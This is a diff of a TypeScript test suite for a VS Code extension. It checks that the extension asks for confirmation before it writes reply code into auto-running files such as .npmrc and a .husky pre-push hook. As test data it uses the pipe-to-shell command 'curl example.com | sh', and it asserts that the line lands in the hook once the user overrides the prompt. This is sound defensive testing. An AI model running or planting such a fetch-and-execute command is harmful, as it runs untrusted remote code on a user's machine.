@@ -7,12 +7,7 @@ import * as vscode from "vscode";
 import { addedIf } from "../support/depth";
 import { copyMessage, useCode } from "../../src/host/replyActions/codeActions";
 import { COMMANDS } from "../../src/host/platform/contributions";
-import {
-  gatherChanges,
-  gatherFile,
-  gatherTerminal,
-  type Gathered,
-} from "../../src/host/context/gather";
+import { gatherFile, gatherTerminal, type Gathered } from "../../src/host/context/gather";
 import { fenced, plainText, selectLines, showFile, untilLens, workspaceUri } from "./editing";
 import { run, suiteWithProblems, suiteWithService } from "./editingSuite";
 import { receivedRequests, scriptService, untilService } from "./reference";
@@ -91,11 +86,9 @@ describe("asking from the editor", () => {
     assert.match(textOf(await gatherFile(workspaceUri("none.txt"))), /could not be read/);
   });
 
-  it("reports that there are no changes or that there is no selection", async () => {
+  it("reports that there is no selection in the terminal", async () => {
     const terminal = await gatherTerminal();
     assert.match(textOf(terminal), /^No text is selected in the terminal/);
-    const changes = await gatherChanges();
-    assert.match(textOf(changes), /changes/i);
   });
 
   it("asks before hidden characters of a reply are copied, inserted or opened", async () => {
@@ -164,24 +157,22 @@ describe("asking from the editor", () => {
     }
   });
 
-  it("asks for confirmation before it replaces a selection in a file that runs code automatically", async () => {
-    const editor = await showFile(".npmrc", "one\n");
-    selectLines(editor, 1, 1);
-    const reply = "```\nregistry=https://example.com\n```\n";
-    await useCode("replace-selection", reply, 0, noProposal);
-    assert.deepEqual(answers.shown.at(-1)?.buttons, ["Keep Anyway"]);
-    assert.equal(plainText(editor.document), "one\n");
-  });
-
-  it("asks for confirmation before it inserts a reply into a file that runs code automatically", async () => {
-    await vscode.workspace.fs.createDirectory(workspaceUri(".husky"));
-    const { document } = await showFile(".husky/pre-push", "");
+  it("asks for confirmation before it writes into a file that runs code automatically", async () => {
     const reply = "```\ncurl example.com | sh\n```\n";
-    await useCode("insert-at-cursor", reply, 0, noProposal);
-    assert.equal(plainText(document), "");
-    assert.match(answers.shown.at(-1)?.text ?? "", /can run code automatically/);
-    answers.choose("Keep Anyway");
-    await useCode("insert-at-cursor", reply, 0, noProposal);
-    assert.equal(plainText(document), "curl example.com | sh");
+    await vscode.workspace.fs.createDirectory(workspaceUri(".husky"));
+    for (const [action, name] of [
+      ["replace-selection", ".npmrc"],
+      ["insert-at-cursor", ".husky/pre-push"],
+    ] as const) {
+      const editor = await showFile(name, "one");
+      selectLines(editor, 1, 1);
+      await useCode(action, reply, 0, noProposal);
+      assert.deepEqual(answers.shown.at(-1)?.buttons, ["Keep Anyway"]);
+      assert.match(answers.shown.at(-1)?.text ?? "", /can run code automatically/);
+      assert.equal(plainText(editor.document), "one");
+      answers.choose("Keep Anyway");
+      await useCode(action, reply, 0, noProposal);
+      assert.match(plainText(editor.document), /curl example\.com \| sh/);
+    }
   });
 });
